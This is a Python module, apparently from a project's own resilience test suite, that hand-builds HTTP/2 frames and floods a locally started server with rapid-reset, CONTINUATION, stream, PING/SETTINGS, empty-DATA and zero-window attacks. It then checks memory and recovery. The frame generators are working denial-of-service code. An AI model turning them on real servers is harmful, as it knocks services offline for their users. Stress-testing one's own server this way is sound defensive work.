"""Attacks by frames of HTTP/2, over a connection that begins with its preface."""

import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial

from scripts.attack.definitions import Attack, AttackContext, Outcome, conclude
from scripts.attack.health import HealthMonitor
from scripts.attack.processes import wait_until
from scripts.attack.project import Project, Server, Tool

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FLOOD_SECONDS = 3.0
RECOVERY_SECONDS = 5.0
"""A flooded server may answer 503, but not for long after the flood."""
MAX_GROWTH_MB = 300
UNREAD_CONNECTIONS = 15
UNREAD_STREAMS = 200
MAX_UNREAD_MB = 700
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4

Flood = Callable[[], Iterator[tuple[bytes, int]]]
"""Bytes to send, and how many units of the attack they are."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name: bytes, value: bytes) -> bytes:
    """A literal header field, without indexing and without compression."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(method: bytes = b"POST", path: bytes = b"/v1/chat/completions") -> bytes:
    named = ((b":method", method), (b":path", path), (b":scheme", b"http"), (b":authority", b"127.0.0.1"))
    return b"".join(field(name, value) for name, value in named)


def rapid_reset() -> Iterator[tuple[bytes, int]]:
    stream = 1
    while True:
        pieces = []
        for _ in range(100):
            pieces += [frame(HEADERS, END_HEADERS, stream, request()), frame(RESET, 0, stream, struct.pack(">I", 8))]
            stream += 2
        yield b"".join(pieces), 100


def continuation_flood() -> Iterator[tuple[bytes, int]]:
    yield frame(HEADERS, 0, 1, request()), 1
    block = b"".join(field(f"x{number:06d}".encode(), b"y" * 100) for number in range(140))
    while True:
        yield frame(CONTINUATION, 0, 1, block), 1


def many_streams() -> Iterator[tuple[bytes, int]]:
    stream = 1
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS, stream + 2 * n, request()) for n in range(100)), 100
        stream += 200


def ping_flood() -> Iterator[tuple[bytes, int]]:
    while True:
        yield frame(PING, 0, 0, b"12345678") * 200 + frame(SETTINGS, 0, 0) * 200, 400


def empty_data() -> Iterator[tuple[bytes, int]]:
    yield frame(HEADERS, END_HEADERS, 1, request()), 1
    while True:
        yield frame(DATA, 0, 1) * 500, 500


def flood(what: str, frames: Flood, context: AttackContext) -> Outcome:
    project = Project(context)
    project.write_tools(Tool(name="ordinary"))
    project.build_all()
    server = project.serve()
    if not _speaks_http2(server):
        return conclude([], "HTTP/2 is off")
    sent, connections = 0, 0
    with HealthMonitor(server) as health:
        end = time.monotonic() + FLOOD_SECONDS
        while time.monotonic() < end:
            connections += 1
            sent += _flood_once(server, frames, end)
    faults = health.faults()
    if health.memory_mb > MAX_GROWTH_MB:
        faults.append(f"memory grew to {health.memory_mb} MB")
    if not wait_until(lambda: server.executes("ordinary"), RECOVERY_SECONDS):
        faults.append(f"a call still fails {RECOVERY_SECONDS:.0f} s later")
    return conclude(faults, f"{sent} {what} over {connections} connections; {health}")


def _connect(server: Server) -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", server.port), timeout=2)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def _speaks_http2(server: Server) -> bool:
    """Whether a request over HTTP/2 gets the response of the health check."""
    received = b""
    try:
        with _connect(server) as connection:
            connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(b"GET", b"/health/live")))
            while b'"status"' not in received:
                piece = connection.recv(65_536)
                if not piece:
                    return False
                received += piece
    except OSError:
        return False
    return True


def _flood_once(server: Server, frames: Flood, end: float) -> int:
    """Send on one connection until it is closed or the time is over; how many units were sent."""
    sent = 0
    try:
        with _connect(server) as connection:
            for piece, units in frames():
                connection.settimeout(max(0.1, end - time.monotonic()))
                connection.sendall(piece)
                sent += units
                connection.settimeout(0)
                try:
                    if not connection.recv(1_000_000):
                        break
                except BlockingIOError:
                    pass
                if time.monotonic() > end:
                    break
    except OSError:
        pass
    return sent


def unread_responses(context: AttackContext) -> Outcome:
    """A window of 0 bytes lets the server send nothing, so that it has to keep what it would send."""
    project = Project(context)
    project.write_tools(Tool(name="ordinary"))
    project.build_all()
    server = project.serve()
    if not _speaks_http2(server):
        return conclude([], "HTTP/2 is off")
    no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    asked = b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * number, request(b"GET", b"/openapi.json"))
        for number in range(UNREAD_STREAMS)
    )
    connections: list[socket.socket] = []
    try:
        with HealthMonitor(server, max_memory_mb=MAX_UNREAD_MB) as health:
            for _ in range(UNREAD_CONNECTIONS):
                with suppress(OSError):  # refused, or closed at once
                    connections.append(_connect(server))
                    connections[-1].sendall(no_window + asked)
            time.sleep(FLOOD_SECONDS)
    finally:
        for connection in connections:
            connection.close()
    faults = health.faults()
    if not wait_until(lambda: server.executes("ordinary"), RECOVERY_SECONDS):
        faults.append(f"a call still fails {RECOVERY_SECONDS:.0f} s later")
    sent = UNREAD_STREAMS * len(connections)
    return conclude(faults, f"{sent} unread responses over {len(connections)} connections; {health}")


FLOODS: dict[str, tuple[str, str, Flood]] = {
    "http2-rapid-reset": ("Requests are cancelled as soon as they are sent.", "cancelled requests", rapid_reset),
    "http2-continuation": ("The headers of one request never end.", "CONTINUATION frames", continuation_flood),
    "http2-many-streams": ("Requests without an end are opened.", "open requests", many_streams),
    "http2-ping-flood": ("PING and SETTINGS frames demand replies.", "frames", ping_flood),
    "http2-empty-data": ("A body consists of empty pieces.", "empty DATA frames", empty_data),
}

ATTACKS = (
    *(
        Attack(name=name, aim=aim, run=partial(flood, units, frames), seconds=20, usual_seconds=FLOOD_SECONDS + 1)
        for name, (aim, units, frames) in FLOODS.items()
    ),
    Attack(
        name="http2-unread",
        aim="Responses are requested over many streams and never read.",
        run=unread_responses,
        seconds=40,
        usual_seconds=FLOOD_SECONDS + 1,
    ),
)
